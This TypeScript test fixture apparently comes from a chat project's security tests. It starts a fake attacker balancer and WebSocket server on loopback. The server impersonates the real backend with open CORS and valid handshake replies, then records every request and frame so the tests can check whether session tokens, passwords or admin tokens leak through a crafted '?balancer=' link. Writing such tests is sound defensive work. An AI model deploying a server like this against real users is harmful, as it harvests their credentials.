/**
 * A fake balancer and chat server run by an attacker, on a free loopback port: what a crafted
 * link like `/?balancer=http://attacker` would point the page at. It is as helpful as an attacker
 * would make it — CORS open to every origin, an `/assign` and a `/cluster` that name itself as
 * the only server, a WebSocket that answers `hello` with a valid `welcome`, an `/admin/faults`
 * that accepts anything — so a page that trusts the link really does hand over its session
 * token, its password and the admin token. It records everything that reaches it.
 *
 * The WebSocket side is a few lines of RFC 6455 by hand (handshake, masked text frames in,
 * unmasked text frames out): this package has no WebSocket server dependency, and the fake needs
 * nothing more.
 */

import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { PROTOCOL_VERSION } from '@quorum/protocol';

const WS_GUID = '258EAFA5-E914-47DA-95CA-C5AB0DC85B11';

const CORS = {
  'access-control-allow-origin': '*',
  'access-control-allow-headers': 'authorization, content-type',
  'access-control-allow-methods': 'GET, POST, OPTIONS',
};

export class Attacker {
  /** Every HTTP request, WebSocket upgrade and WebSocket frame that reached the fake, as text. */
  readonly seen: string[] = [];
  private readonly sockets = new Set<Socket>();

  private constructor(
    private readonly server: Server,
    readonly url: string,
  ) {}

  static async start(): Promise<Attacker> {
    let attacker!: Attacker;
    const server = createServer((request, response) => attacker.onRequest(request, response));
    server.on('upgrade', (request: IncomingMessage, socket: Socket) => attacker.onUpgrade(request, socket));
    server.on('connection', (socket: Socket) => {
      attacker.sockets.add(socket);
      socket.once('close', () => attacker.sockets.delete(socket));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    attacker = new Attacker(server, `http://127.0.0.1:${port}`);
    return attacker;
  }

  /** The entries that contain any of `secrets`. */
  leaks(secrets: readonly string[]): string[] {
    return this.seen.filter((entry) => secrets.some((secret) => entry.includes(secret)));
  }

  async close(): Promise<void> {
    for (const socket of this.sockets) socket.destroy();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }

  private get wsUrl(): string {
    return `${this.url.replace(/^http/, 'ws')}/ws`;
  }

  private onRequest(request: IncomingMessage, response: ServerResponse): void {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      this.seen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`);
      const path = (request.url ?? '').split('?', 1)[0];
      if (request.method === 'OPTIONS') {
        response.writeHead(204, CORS).end();
      } else if (path === '/assign') {
        this.json(response, { serverId: 1, url: this.wsUrl, servers: [{ id: 1, url: this.wsUrl }] });
      } else if (path === '/cluster') {
        this.json(response, {
          balancerId: 'attacker',
          ready: true,
          size: 1,
          leaderId: 1,
          servers: [
            {
              id: 1,
              url: this.wsUrl,
              healthy: true,
              load: 0,
              role: 'leader',
              leaderId: 1,
              ballot: { round: 1, node: 1 },
              committed: 0,
              applied: 0,
              snapshot: 0,
              peersUp: [],
              lastSeenMs: 0,
            },
          ],
        });
      } else if (path === '/admin/faults') {
        this.json(response, { ok: true });
      } else {
        response.writeHead(404, CORS).end();
      }
    });
  }

  private json(response: ServerResponse, body: unknown): void {
    response.writeHead(200, { ...CORS, 'content-type': 'application/json' }).end(JSON.stringify(body));
  }

  private onUpgrade(request: IncomingMessage, socket: Socket): void {
    this.seen.push(`UPGRADE ${request.url} ${JSON.stringify(request.headers)}`);
    const key = request.headers['sec-websocket-key'];
    if (typeof key !== 'string') {
      socket.destroy();
      return;
    }
    const accept = createHash('sha1')
      .update(key + WS_GUID)
      .digest('base64');
    socket.write(
      'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
        `Sec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
    let buffer = Buffer.alloc(0);
    socket.on('data', (chunk: Buffer) => {
      buffer = Buffer.concat([buffer, chunk]);
      for (;;) {
        const frame = readFrame(buffer);
        if (frame === null) return;
        buffer = buffer.subarray(frame.length);
        if (frame.opcode === 0x8) {
          socket.end();
          return;
        }
        if (frame.opcode !== 0x1) continue;
        const text = frame.payload.toString('utf8');
        this.seen.push(`WS ${text}`);
        if (text.includes('"hello"')) socket.write(textFrame(JSON.stringify(welcome())));
      }
    });
    socket.on('error', () => socket.destroy());
  }
}

function welcome(): unknown {
  return {
    type: 'welcome',
    version: PROTOCOL_VERSION,
    serverId: 1,
    leaderId: 1,
    limits: {
      maxFrameBytes: 65_536,
      maxTextLength: 4000,
      maxHistoryPage: 200,
      maxRoomsPerConnection: 64,
      sendsPerSecond: 20,
    },
  };
}

/** One client frame (always masked) from the start of `buffer`, or null until it is all there. */
function readFrame(buffer: Buffer): { opcode: number; payload: Buffer; length: number } | null {
  if (buffer.length < 2) return null;
  const opcode = (buffer[0] ?? 0) & 0x0f;
  let size = (buffer[1] ?? 0) & 0x7f;
  let offset = 2;
  if (size === 126) {
    if (buffer.length < 4) return null;
    size = buffer.readUInt16BE(2);
    offset = 4;
  } else if (size === 127) {
    if (buffer.length < 10) return null;
    size = Number(buffer.readBigUInt64BE(2));
    offset = 10;
  }
  const masked = ((buffer[1] ?? 0) & 0x80) !== 0;
  const mask = masked ? buffer.subarray(offset, offset + 4) : null;
  if (masked) offset += 4;
  if (buffer.length < offset + size) return null;
  const payload = Buffer.from(buffer.subarray(offset, offset + size));
  if (mask !== null)
    for (let i = 0; i < payload.length; i++) payload[i] = (payload[i] ?? 0) ^ (mask[i % 4] ?? 0);
  return { opcode, payload, length: offset + size };
}

function textFrame(text: string): Buffer {
  const payload = Buffer.from(text, 'utf8');
  const header =
    payload.length < 126
      ? Buffer.from([0x81, payload.length])
      : Buffer.from([0x81, 126, payload.length >> 8, payload.length & 0xff]);
  return Buffer.concat([header, payload]);
}
